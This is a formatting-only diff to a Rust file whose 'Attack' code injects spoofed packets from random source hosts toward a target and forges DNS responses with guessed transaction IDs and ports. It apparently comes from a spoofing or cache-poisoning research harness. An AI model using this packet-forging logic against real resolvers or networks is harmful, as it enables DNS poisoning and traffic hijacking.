@@ -37,14 +37,16 @@ impl Attack {
         let over = Arc::new(AtomicBool::new(false));
         let stop = Arc::clone(&over);
         let thread = thread::spawn(move || {
-            let (clock, mut rng, mut forged, mut sent) = (Clock::start(), Rng::new(1), Forged::default(), 0);
+            let (clock, mut rng, mut forged, mut sent) =
+                (Clock::start(), Rng::new(1), Forged::default(), 0);
             let begin = clock.now();
             while !stop.load(Ordering::Relaxed) {
                 let due = clock.now().since(begin).as_micros() as u64 * rate / 1_000_000;
                 while sent < due {
                     let host = hosts[rng.below(hosts.len())];
                     let (protocol, body) = guess(&mut rng, &mut forged);
-                    let bytes = Packet { from: host, to: vantage, hops: 64, protocol, body: &body }.bytes();
+                    let bytes =
+                        Packet { from: host, to: vantage, hops: 64, protocol, body: &body }.bytes();
                     assert_eq!((&*device).write(&bytes).unwrap(), bytes.len());
                     sent += 1;
                 }
@@ -91,7 +93,8 @@ fn guess(rng: &mut Rng, forged: &mut Forged) -> (u8, Vec<u8>) {
         }
         _ => {
             forged.dns += 1;
-            let mut message = vec![(number >> 8) as u8, number as u8, 0x84, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+            let mut message =
+                vec![(number >> 8) as u8, number as u8, 0x84, 0, 0, 1, 0, 0, 0, 0, 0, 0];
             message.extend(b"\x04kptc\x02kp\x00\x00\x06\x00\x01");
             (UDP, datagram(53, port, &message))
         }
